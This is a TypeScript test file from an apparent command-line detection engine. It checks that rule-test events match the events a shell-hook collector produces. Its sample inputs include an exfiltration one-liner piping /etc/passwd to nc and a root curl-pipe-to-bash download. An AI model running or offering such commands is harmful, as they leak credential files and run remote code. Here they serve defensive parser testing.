/**
 * A rule test written as a command line must see what the collector emits for
 * that line: the same words in process.args, the same name, no field the
 * collector never sends (process.executable), and so the same simple commands.
 * Both go through schema's commandEvent and shell lexer; this holds them there.
 */
import { getField } from '../../schema';
import { builtinRulesDir } from '../../core';
import { commandsOf, loadRules, testEventDoc } from '../../rules';
import { parserByKind } from '../parsers';
import { testContext } from './test-util';

const FIELDS = [
  'process.command_line', 'process.args', 'process.args_count', 'process.name', 'process.executable', 'process.working_directory',
  'user.name', 'process.entry_leader.user.name', 'host.name',
  'event.kind', 'event.category', 'event.type', 'event.action', 'event.dataset',
] as const;

const TRICKY = [
  `ls -la '/tmp/a b' "x \\"y\\"" c\\ d`,
  'cat /etc/passwd|nc 10.0.0.9 4444 # exfil',
  'for i in 1 2 3; do\n  echo "$i"\ndone',
  'echo $(id -u) `whoami` 2>&1 >/dev/null',
  "sudo sh -c 'curl -s http://x/a | bash' > /tmp/o 2>&1; echo ok",
  'FOO=1 env -i nohup ./run.sh &',
  'echo 中文 "你好 世界"',
  'x '.repeat(300),
];

function collectorEvent(line: string): Record<string, unknown> {
  const unit = parserByKind('hook');
  if (!unit) throw new Error('no hook parser');
  const record = { v: 1, shell: 'bash', host: 'web01', sid: 's1', seq: 1, t: Date.parse('2026-11-22T10:00:00Z'), user: 'alice', logname: 'alice', cwd: '/home/alice', cmd: line };
  const [out] = unit.create(testContext()).push({ text: JSON.stringify(record), origin: { file: '/var/log/hook.log', fileId: 'f', offset: 0, end: 1 } });
  if (out?.kind !== 'event') throw new Error(`the hook parser did not make an event of ${JSON.stringify(line)}: ${JSON.stringify(out)}`);
  return out.doc as unknown as Record<string, unknown>;
}

describe('rule test events and collector events', () => {
  let lines: string[] = [];
  beforeAll(async () => {
    const rules = await loadRules([builtinRulesDir()]);
    lines = [...TRICKY, ...rules.flatMap((r) => [...r.tests.match, ...r.tests.no_match]).filter((e): e is string => typeof e === 'string')];
  });

  it('agree on every field rules read, for every command line of the built-in rule tests and some tricky ones', () => {
    expect(lines.length).toBeGreaterThan(100);
    for (const line of lines) {
      const fromRuleTest = testEventDoc(line);
      const fromCollector = collectorEvent(line);
      for (const f of FIELDS) expect([line, f, getField(fromRuleTest, f)]).toEqual([line, f, getField(fromCollector, f)]);
      expect([line, commandsOf(fromRuleTest)]).toEqual([line, commandsOf(fromCollector)]);
    }
  });

  it('stores the words as the collector always has, while rules still split the line at its operators', () => {
    const ev = collectorEvent('a;b "c d"');
    expect(getField(ev, 'process.args')).toEqual(['a;b', 'c d']);
    expect(commandsOf(ev).map((c) => c.argv)).toEqual([['a'], ['b', 'c d']]);
  });
});
